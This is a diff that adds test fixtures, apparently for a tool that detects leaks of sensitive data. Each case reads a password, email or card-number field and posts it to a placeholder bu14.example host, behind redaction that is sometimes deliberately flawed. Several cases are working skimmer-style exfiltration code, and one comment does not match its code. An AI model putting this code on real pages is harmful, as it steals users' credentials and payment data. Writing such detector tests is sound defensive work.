@@ -510,3 +510,82 @@ function gte74() {
   fetch('https://gte.bu14.example/?m=' + mail);
 }
 gte74();
+
+//# names-compared-in-small-letters
+// no flow
+const HIDDEN75 = ['password', 'pin'];
+function scrub75(o) {
+  const out = {};
+  Object.keys(o).forEach((k) => { out[k] = HIDDEN75.includes(k.toLowerCase()) ? '[hidden]' : o[k]; });
+  return out;
+}
+fetch('https://ncl.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub75({ step: 1, Password: document.querySelector('input[type=password]').value })) });
+
+//# names-compared-in-small-letters-other
+// flow: password > nco.bu14.example via fetch
+const HIDDEN76 = ['pwd', 'pin'];
+function scrub76(o) {
+  const out = {};
+  Object.keys(o).forEach((k) => { out[k] = HIDDEN76.includes(k.toLowerCase()) ? '[hidden]' : o[k]; });
+  return out;
+}
+fetch('https://nco.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub76({ step: 1, Password: document.querySelector('input[type=password]').value })) });
+
+//# redaction-stops-at-some-depth
+// flow: password > rsd.bu14.example via fetch
+// why: below the third level everything is handed on as it is
+function scrub77(value, depth) {
+  if (depth > 0 || value === null || typeof value !== 'object') return value;
+  const out = {};
+  for (const key of Object.keys(value)) out[key] = key === 'password' ? '***' : scrub77(value[key], depth + 1);
+  return out;
+}
+fetch('https://rsd.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub77({ form: { user: { password: document.querySelector('input[type=password]').value } } }, 0)) });
+
+//# redaction-in-one-level-only
+// flow: password > rol.bu14.example via fetch
+const scrub78 = (o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, k === 'password' ? '***' : v]));
+fetch('https://rol.bu14.example/e', { method: 'POST', body: JSON.stringify(scrub78({ user: { password: document.querySelector('input[type=password]').value } })) });
+
+//# redaction-of-lists-in-objects
+// no flow
+const scrub79 = (v) => Array.isArray(v) ? v.map(scrub79) : v && typeof v === 'object'
+  ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, /pass|secret/i.test(k) ? '***' : scrub79(x)]))
+  : v;
+navigator.sendBeacon('https://rlo.bu14.example/e', JSON.stringify(scrub79({ forms: [{ name: 'login', passwordField: document.querySelector('input[type=password]').value }] })));
+
+//# redaction-in-place-deep
+// no flow
+function wipe80(node) {
+  for (const key in node) {
+    if (key === 'password') node[key] = '';
+    else if (typeof node[key] === 'object') wipe80(node[key]);
+  }
+}
+const event80 = { type: 'login', password: document.querySelector('input[type=password]').value };
+wipe80(event80);
+fetch('https://rid.bu14.example/e', { method: 'POST', body: JSON.stringify(event80) });
+
+//# read-by-name-through-function
+// no flow
+const profile81 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
+function field81(name) { return ['mail', 'phone'].includes(name) ? '' : profile81[name]; }
+fetch('https://rbn.bu14.example/?a=' + field81('plan') + '&b=' + field81('mail'));
+
+//# read-by-name-through-function-other
+// flow: email > rbo.bu14.example via fetch
+const profile82 = { mail: document.querySelector('input[type=email]').value, plan: 'x' };
+function field82(name) { return ['phone'].includes(name) ? '' : profile82[name]; }
+fetch('https://rbo.bu14.example/?a=' + field82('plan') + '&b=' + field82('mail'));
+
+//# proxy-written-out-as-json
+// no flow
+const raw83 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
+const shown83 = new Proxy(raw83, { get: (t, k) => (k === 'pan' ? undefined : t[k]) });
+fetch('https://pwj.bu14.example/s', { method: 'POST', body: JSON.stringify(shown83) });
+
+//# proxy-written-out-as-json-other
+// flow: card > pwo.bu14.example via fetch
+const raw84 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
+const shown84 = new Proxy(raw84, { get: (t, k) => (k === 'cvc' ? undefined : t[k]) });
+fetch('https://pwo.bu14.example/s', { method: 'POST', body: JSON.stringify(shown84) });
